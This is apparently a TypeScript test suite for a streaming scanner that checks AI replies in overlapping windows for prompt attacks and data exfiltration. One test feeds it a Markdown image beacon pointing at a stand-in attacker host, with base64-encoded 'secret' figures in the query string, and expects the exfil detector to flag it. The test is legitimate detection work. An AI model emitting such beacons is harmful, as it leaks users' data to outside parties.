import { describe, expect, it } from 'vitest';
import { createPipeline } from '../../../lib/core/pipeline.ts';
import { ReplyStream } from '../../../lib/core/reply-stream.ts';
import { exfil } from '../../../lib/detectors/exfil.ts';
import { fakeDetector, finding, reportOf } from '../../support/fake-detectors.ts';

/** Flags every occurrence of MARKER with its span; records the length of each text it saw. */
function markerDetector() {
  const seen: number[] = [];
  const detector = fakeDetector('marker', (text) => {
    seen.push(text.length);
    const found = [];
    for (let at = text.indexOf('MARKER'); at >= 0; at = text.indexOf('MARKER', at + 1)) {
      found.push(finding('marker', 0.9, 'prompt-attack', { spans: [{ start: at, end: at + 6 }] }));
    }
    return reportOf(...found);
  });
  return { detector, seen };
}

const deltas = (text: string, size: number) => Array.from({ length: Math.ceil(text.length / size) }, (_, i) => text.slice(i * size, (i + 1) * size));

describe('ReplyStream', () => {
  it('scans in windows of about stepChars + overlap, never the whole reply again', async () => {
    const { detector, seen } = markerDetector();
    const stream = new ReplyStream(createPipeline({ detectors: [detector] }), {}, { stepChars: 100, overlapChars: 30 });
    for (const delta of deltas('x'.repeat(5_000), 20)) expect((await stream.push(delta)).ok).toBe(true);
    expect(seen.length).toBe(50);
    expect(Math.max(...seen)).toBeLessThanOrEqual(100 + 30);
  });

  it('catches a pattern split across two deltas and two windows, with spans in reply coordinates', async () => {
    const { detector } = markerDetector();
    const stream = new ReplyStream(createPipeline({ detectors: [detector] }), {}, { stepChars: 50, overlapChars: 10 });
    const reply = `${'a'.repeat(47)}MARKER${'b'.repeat(100)}`;
    const found = [];
    for (const delta of deltas(reply, 20)) {
      const update = await stream.push(delta);
      if (update.ok) found.push(...update.value.newFindings);
    }
    expect(found.map((f) => f.spans)).toEqual([[{ start: 47, end: 53 }]]);
  });

  it('reports a finding once even when the overlap re-scans it', async () => {
    const { detector } = markerDetector();
    const stream = new ReplyStream(createPipeline({ detectors: [detector] }), {}, { stepChars: 10, overlapChars: 40 });
    let count = 0;
    for (const delta of deltas(`MARKER${'c'.repeat(60)}`, 5)) {
      const update = await stream.push(delta);
      if (update.ok) count += update.value.newFindings.length;
    }
    expect(count).toBe(1);
  });

  it('keeps the strictest action seen and settles with a full scan', async () => {
    const stream = new ReplyStream(createPipeline({ detectors: [exfil] }), { site: 'claude.ai' }, { stepChars: 64, overlapChars: 256 });
    const reply = `Here you go. ![x](https://evil.test/p.png?d=U2VjcmV0IHF1YXJ0ZXJseSBudW1iZXJzOiA0LjJN) ${'More text. '.repeat(30)}`;
    let last;
    for (const delta of deltas(reply, 20)) last = await stream.push(delta);
    expect(last?.ok && last.value.action).not.toBe('allow');
    const verdict = await stream.settle();
    expect(verdict.ok && verdict.value.findings.map((f) => f.ruleId)).toContain('exfil/image-beacon');
    expect(verdict.ok && verdict.value.direction).toBe('outbound');
    expect((await stream.push('late')).ok).toBe(false);
  });

  it('flush scans a short tail, and bad deltas are refused without losing the reply', async () => {
    const { detector, seen } = markerDetector();
    const stream = new ReplyStream(createPipeline({ detectors: [detector] }), {}, { stepChars: 1_000 });
    await stream.push('short MARKER');
    expect(seen).toEqual([]);
    const flushed = await stream.flush();
    expect(flushed.ok && flushed.value.newFindings).toHaveLength(1);
    expect((await stream.push(42 as unknown as string)).ok).toBe(false);
    expect(stream.length).toBe('short MARKER'.length);
  });

  it('never starts a window inside a surrogate pair', async () => {
    const texts: string[] = [];
    const detector = fakeDetector('spy', (text) => (texts.push(text), reportOf()));
    const stream = new ReplyStream(createPipeline({ detectors: [detector] }), {}, { stepChars: 10, overlapChars: 5 });
    for (const delta of deltas('😀'.repeat(40), 7)) await stream.push(delta);
    for (const text of texts) expect(text.charCodeAt(0) >= 0xdc00 && text.charCodeAt(0) <= 0xdfff).toBe(false);
  });
});
